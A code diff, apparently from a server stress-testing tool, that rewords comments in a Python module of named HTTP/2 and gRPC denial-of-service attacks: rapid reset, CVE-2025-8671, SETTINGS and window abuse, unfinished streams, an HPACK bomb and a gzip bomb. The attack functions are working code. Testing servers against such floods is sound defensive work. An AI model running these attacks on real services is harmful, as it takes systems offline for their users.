@@ -1,4 +1,4 @@
-"""The attacks by name. Each is what one connection does, until it is cut or the time is over; cut, it comes again."""
+"""The attacks by name. Each is the behaviour of one connection until its end; a connection that is cut is replaced."""
 
 import gzip
 import itertools
@@ -36,15 +36,15 @@ CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
 PIXELS = 784  # of one image
 LARGE = 1000  # images: an answer of 784 kB, a quarter of the server's queue
 STREAMS = 1000  # the server's default of calls on one connection
-PACED = 900  # costly frames that are read together: below a thousand
+PACED = 900  # costly frames that the server reads together: below its limit of a thousand
 
 
 @dataclass(frozen=True)
 class Attack:
     run: Callable[[Line], None]
     connections: tuple[int, ...] = (1, 50)
-    tls: bool = False  # the server's
-    passive: bool = False  # connections only wait once they have run: one thread looks after thousands
+    tls: bool = False  # whether the server uses TLS
+    passive: bool = False  # connections only wait after `run`: one thread serves thousands of them
     line: dict[str, Any] = field(default_factory=dict)
 
 
@@ -61,13 +61,13 @@ def attack(name: str, **options: Any) -> Callable[[Callable[[Line], None]], Call
 
 
 def block(path: str = GENERATE, *more: tuple[str, str], huffman: bool = False) -> bytes:
-    """Write a request's headers so that they neither need the table nor change it."""
+    """Encode a request's headers without using or changing the dynamic table."""
     return Encoder().encode([(name, value, True) for name, value in head(path, *more)], huffman=huffman)
 
 
 GENERATES, CHECKS, EACHES, WATCHES = block(GENERATE), block(CHECK), block(EACH), block(WATCH)
 ONE, MANY = message(request(1)), message(request(LARGE))
-# Made once, as it takes longer than to send them.
+# Made once, because making them takes longer than sending them.
 GZIP, BOMB = block(GENERATE, ("grpc-encoding", "gzip")), message(gzip.compress(bytes(4 << 20)), compressed=1)
 HUFFMAN = block(CHECK, ("x", "&*,;XZ" * 2600), huffman=True)  # codes of 8 bits
 OF_12_KIB = block(CHECK, *((f"x-{number}", "v" * 4000) for number in range(3)))
@@ -79,7 +79,7 @@ def four(value: int) -> bytes:
     return value.to_bytes(4, "big")
 
 
-# Streams that are opened to be ended.
+# Streams that are opened only to be ended.
 
 
 @attack("rapid reset")
@@ -99,7 +99,7 @@ def paced_resets(line: Line) -> None:
 
 
 def made_you_reset(line: Line, mistake: Callable[[int], None]) -> None:
-    """Make the server reset calls that it has begun (CVE-2025-8671)."""
+    """Make the server reset calls that have begun (CVE-2025-8671)."""
     while True:
         for _ in range(100):
             mistake(line.call(GENERATES, ONE))
@@ -166,7 +166,7 @@ def paced_settings(line: Line) -> None:
 
 @attack("SETTINGS of changing windows")
 def changing_windows(line: Line) -> None:
-    """Have the windows of a thousand open streams changed by each frame."""
+    """Change the windows of a thousand open streams with each frame."""
     while len(line.live) < STREAMS:
         line.open(EACHES)
     pair = settings({INITIAL_WINDOW_SIZE: 0}) + settings({INITIAL_WINDOW_SIZE: DEFAULT_WINDOW})
@@ -206,13 +206,13 @@ def empty_data(line: Line) -> None:
 
 @attack("zero window", values={INITIAL_WINDOW_SIZE: 0})
 def zero_window(line: Line) -> None:
-    # One in 20 ms: of more than four at once the server refuses some, as its queue is full.
+    # One call in 20 ms: of more than four at once, the server refuses some, because its queue is full.
     line.keep_open(64, lambda: line.call(GENERATES, MANY), at_once=1)
 
 
 @attack("negative window", values={INITIAL_WINDOW_SIZE: 1 << 20}, granted=0)
 def negative_window(line: Line) -> None:
-    """Make a stream's window negative while only the connection's holds its answer back, then let all of it go."""
+    """Make a stream's window negative while the connection's window holds its answer back; then open both windows."""
     stream = line.call(GENERATES, MANY)
     line.until(lambda: line.received >= DEFAULT_WINDOW or stream not in line.live)
     line.write(settings({INITIAL_WINDOW_SIZE: 0}) + frame(WINDOW_UPDATE, 0, 0, four(1 << 20)))
@@ -241,7 +241,7 @@ def unread_control_answers(line: Line) -> None:
 
 @attack("health.Watch, window 0", values={INITIAL_WINDOW_SIZE: 0})
 def watches(line: Line) -> None:
-    nothing = message(b"")  # of the whole server's health
+    nothing = message(b"")  # asks for the health of the whole server
     line.keep_open(STREAMS, lambda: line.call(WATCHES, nothing))
 
 
@@ -249,7 +249,7 @@ def watches(line: Line) -> None:
 
 
 def unfinished(line: Line, headers: bytes, size: int, total: int) -> None:
-    """Keep requests open that lack their end; `total` of all connections."""
+    """Keep unfinished requests open; `total` is the number over all connections."""
     body = (size + 1000).to_bytes(5, "big") + bytes(size - 5)
     streams = min(STREAMS, math.ceil(total / line.of))
     line.keep_open(streams, lambda: line.data(line.open(headers), body))
@@ -288,12 +288,12 @@ def much_metadata(line: Line) -> None:
     line.keep_open(STREAMS, lambda: line.open(OF_12_KIB))
 
 
-# Little that becomes much.
+# Amplification.
 
 
 @attack("HPACK bomb")
 def indexed_repeats(line: Line) -> None:
-    """Name a table's entry of 4 KB thousands of times, a byte each (CVE-2016-6581)."""
+    """Refer to a table entry of 4 KB thousands of times, with a byte each (CVE-2016-6581)."""
     entry = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"v" * 4000
     line.open(CHECKS + entry, END_HEADERS | END_STREAM)
     while True:
@@ -363,4 +363,4 @@ def partial_preface(line: Line) -> None:
 
 @attack("idle connections", passive=True, connections=(50, 1_900))
 def idle(line: Line) -> None:
-    """Greet and say nothing more, up to a hundred less than the server's default of connections."""
+    """Send only the preface, on up to a hundred connections less than the server's default limit."""
